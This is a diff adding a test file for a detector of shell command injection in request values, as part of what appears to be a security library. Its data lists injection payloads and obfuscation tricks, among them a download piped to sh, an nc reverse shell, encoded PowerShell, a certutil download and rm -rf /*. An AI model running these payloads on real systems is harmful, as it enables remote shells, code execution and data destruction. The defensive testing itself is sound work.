@@ -1,0 +1,125 @@
+import { describe, expect, test } from 'vitest';
+import { readingOf } from '../../../src/attacks/readings/reading.ts';
+import type { LeafKind } from '../../../src/attacks/request/leaf.ts';
+import { findCommand } from '../../../src/attacks/shell/find-commands.ts';
+
+function confidenceOf(text: string, kind: LeafKind = 'query'): number {
+  const reading = readingOf({ location: 'query.q', kind, part: 'value', text }, text, []);
+  return findCommand(reading)?.confidence ?? 0;
+}
+
+const COMMANDS = ['whoami', 'id', 'ls -la', 'cat /etc/passwd', 'ping -c 3 127.0.0.1', 'sleep 5', '/usr/bin/id'];
+const HEADS = ['', '1', '127.0.0.1', 'a.txt', "'", '")', 'https://example.org', 'x@example.org'];
+const TAILS = ['', ';', ' #', "'", ' --', '\n'];
+
+describe('a command in command position', () => {
+  test.each(COMMANDS)('%s behind every separator, head and tail', (command) => {
+    for (const head of HEADS) {
+      for (const separator of [';', '|', '||', '&', '&&', '\n', ' ; ', ' | ']) {
+        for (const tail of TAILS) {
+          const text = head + separator + command + tail;
+          expect([text, confidenceOf(text) >= 0.7]).toEqual([text, true]);
+        }
+      }
+    }
+  });
+
+  test.each(COMMANDS)('%s in every substitution', (command) => {
+    for (const text of [
+      `$(${command})`,
+      `a\`${command}\``,
+      `"$(${command})"`,
+      `x=<(${command})`,
+      `$(\`${command}\`)`,
+    ]) {
+      expect([text, confidenceOf(text) >= 0.7]).toEqual([text, true]);
+    }
+  });
+
+  test.each([
+    ['quotes', "c'a't /etc/passwd"],
+    ['empty quotes', 'w""hoami'],
+    ['backslashes', 'w\\ho\\am\\i'],
+    ['empty parameters', 'who$@ami'],
+    ['an empty substitution', 'who$()ami'],
+    ['an unset variable', 'cat$u /etc$u/passwd'],
+    ['carets', 'w^h^o^a^m^i'],
+    ['wildcards', '/b?n/c?t /etc/passwd'],
+    ['a set in brackets', '/b[i]n/cat x'],
+    ['braces', '{cat,/etc/passwd}'],
+    ['braces with a suffix', '{l,-lh}s'],
+    ['the field separator', 'cat$IFS$9/etc/passwd'],
+    ['a redirection', 'cat</etc/passwd'],
+    ['escapes', "$'\\x69\\x64' -u"],
+    ['a slice of a path', `cat \${HOME:0:1}etc\${HOME:0:1}passwd`],
+    ['a here-string', 'rev<<<imaohw'],
+    ['plus signs', 'cat+/etc/passwd'],
+  ])('hidden by %s', (_, command) => {
+    expect(confidenceOf(`;${command}`)).toBeGreaterThanOrEqual(0.85);
+  });
+
+  test.each([
+    'cat /etc/passwd',
+    'uname -a',
+    'ping -c 1 127.0.0.1',
+    'wget http://203.0.113.9/x.sh -O- | sh',
+    'nc -e /bin/sh 203.0.113.9 4444',
+    'python3 -c "import os"',
+    'cmd.exe /c whoami',
+    'powershell -nop -w hidden -enc SQBFAFgA',
+    'wmic process list',
+    'reg query HKLM\\Software',
+    'certutil -urlcache -f http://203.0.113.9/a.exe',
+    'Get-Process',
+    '/bin/ls -al',
+    'rm -rf /*',
+  ])('%s as the whole value', (command) => {
+    expect(confidenceOf(command)).toBeGreaterThanOrEqual(0.5);
+  });
+
+  test('a path of the request is no command line, though a separator in it begins one', () => {
+    expect(confidenceOf('/bin/ls', 'path')).toBe(0);
+    expect(confidenceOf('/index.html;ls -la', 'path')).toBeGreaterThan(0.7);
+  });
+
+  test('a complete attack that breaks out at once is found before any text', () => {
+    const prose = 'this is a long and quite harmless text about the weather in spring. '.repeat(5);
+    expect(confidenceOf(`; cat /etc/passwd\n${prose}`)).toBeGreaterThan(0.9);
+  });
+});
+
+describe('harmless text', () => {
+  test.each([
+    ['words between pipes', 'Home | Date | Time'],
+    ['a table', '| id | name |\n|----|------|\n| 1 | Ann |'],
+    ['columns', '"id";"name";"date"'],
+    ['a list of languages', 'java;python;perl'],
+    ['a search', 'ls -la explained'],
+    ['a regular expression', '^(ls|cat|id)$'],
+    ['jQuery', "$('time').text() && $(id).hide()"],
+    ['a query of GraphQL', 'query { user(id: 1) { id name } }'],
+    ['columns in backticks', '`id`, `name`'],
+    ['SQL', '1; DROP TABLE users'],
+    ['a script call', ';alert(1)//'],
+    ['a template', `{{ 7 * 7 }} \${7*7}`],
+    ['a build script', 'tsc && cp -r assets dist/assets'],
+    ['a sentence about functions', 'Replace os.system("ls") with subprocess'],
+    ['a match of a pattern', '/x/.exec("date")'],
+    ['a traversal', '../../etc/passwd'],
+    ['a program in a configuration', '/bin/sh'],
+    ['a folder', 'C:\\new\\id'],
+    ['Markdown', 'Install it:\n\n```sh\ncurl -sSf https://example.org/i.sh | sh\n```\n'],
+    ['a script', '#!/bin/sh\nset -e\ncd /srv\nrm -rf /tmp/x\nfor f in $(ls /etc); do echo "$f"; done\n'],
+    ['HTML', '<p>Fish &amp; chips; <b>sort</b> of</p><p>cut; <i>find</i></p>'],
+    ['a name with an apostrophe', "l'id de l'env; c'est ça"],
+  ])('%s', (_, text) => {
+    expect(confidenceOf(text)).toBe(0);
+  });
+});
+
+test.each(['\ud800;\udfff', ';', '$(', '`', ';\\', ';"', '\0|\0', `\${`.repeat(500), ';{'.repeat(500), '\\n'])(
+  'survives %j',
+  (text) => {
+    expect(confidenceOf(text)).toBe(0);
+  },
+);
